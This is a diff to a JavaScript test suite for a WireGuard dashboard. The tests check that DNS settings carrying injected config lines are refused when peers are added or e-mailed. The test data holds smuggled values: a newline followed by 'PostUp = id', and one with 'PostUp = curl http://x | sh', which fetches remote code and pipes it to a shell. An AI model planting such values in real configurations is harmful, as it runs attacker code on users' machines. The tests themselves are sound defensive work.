@@ -207,6 +207,18 @@ describe('client config injection', () => {
       await storeLegacy(column, column === 'dns' ? '1.1.1.1' : '0.0.0.0/0');
     });
 
+    it('as a Peers setting gives no new peer its value: addPeers refuses, naming the setting to correct', async () => {
+      await db.query(`INSERT INTO wgd_setting (node_id, section, key, value) VALUES ($1, 'Peers', 'peer_global_dns', $2)`, [server.nodeId, '1.1.1.1\nPostUp = id']);
+      const before = (await peerKeys()).length;
+      for (const body of [{ name: 'x' }, { bulkAdd: true, bulkAddAmount: 1 }]) {
+        expect((await wgd('post', '/api/addPeers/wg0').send(body).expect(200)).text).toBe(
+          failed('DNS format is incorrect (the peer_global_dns setting: correct it with updateDashboardConfigurationItem)'),
+        );
+      }
+      expect((await peerKeys()).length).toBe(before);
+      await db.query(`DELETE FROM wgd_setting WHERE node_id = $1 AND key = 'peer_global_dns'`, [server.nodeId]);
+    });
+
     it('is never attached to an e-mail: the e-mail routes answer the same refusal (HTTP 400, the envelope)', async () => {
       await storeLegacy('dns', '1.1.1.1\nPostUp = curl http://x | sh');
       for (const path of ['/api/email/previewBody', '/api/email/send']) {
